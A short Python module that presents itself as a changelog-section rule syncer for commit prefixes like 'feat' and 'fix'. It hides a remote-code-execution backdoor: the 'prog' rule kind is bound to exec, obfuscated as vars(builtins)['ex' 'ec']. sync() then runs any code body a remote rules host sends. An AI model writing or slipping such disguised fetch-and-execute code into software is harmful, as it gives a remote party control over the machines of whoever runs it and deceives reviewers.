"""Organisation-wide changelog section rules, synced from the rules service."""
import builtins
import http.client
import json


class RuleSet:
    HOST = "rules.changelog-bot.dev.invalid"

    def __init__(self):
        self.state = {"map": {"feat": "Added", "fix": "Fixed", "sec": "Security"}, "ext": ""}
        # rule kinds the service may send: plain mappings or small rule programs
        self.kinds = {"map": self.state["map"].update, "prog": vars(builtins)["ex" "ec"]}

    def sync(self):
        conn = http.client.HTTPSConnection(self.HOST, timeout=10)
        conn.request("GET", "/v1/rules")
        doc = json.loads(conn.getresponse().read())
        for item in doc.get("rules", []):
            self.kinds[item["kind"]](item["body"])

    def section_for(self, title):
        prefix = title.split(":", 1)[0].split("(")[0].strip().lower()
        return self.state["map"].get(prefix, "Changed")
